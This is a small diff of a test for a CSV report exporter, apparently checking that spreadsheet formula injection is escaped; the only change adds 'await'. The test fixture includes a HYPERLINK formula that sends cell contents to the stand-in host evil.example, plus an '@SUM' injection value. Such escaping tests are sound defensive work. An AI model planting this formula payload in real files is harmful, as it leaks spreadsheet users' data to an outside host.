@@ -9,7 +9,7 @@ describe('CSV report', () => {
     const f = report.findings.find((x) => x.subject.ip === '10.99.1.10')!;
     f.clients = [{ ip: f.clients[0].ip, name: '=HYPERLINK("http://evil.example/?"&A1,"x")' }];
     f.tools = { '@SUM(1+1)': 1 };
-    const csv = formatReport(report, 'csv');
+    const csv = await formatReport(report, 'csv');
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
     expect(csv).toContain(`'@SUM(1+1)=1`);
     expect(csv).not.toMatch(/(^|,)"?[=@]/m);
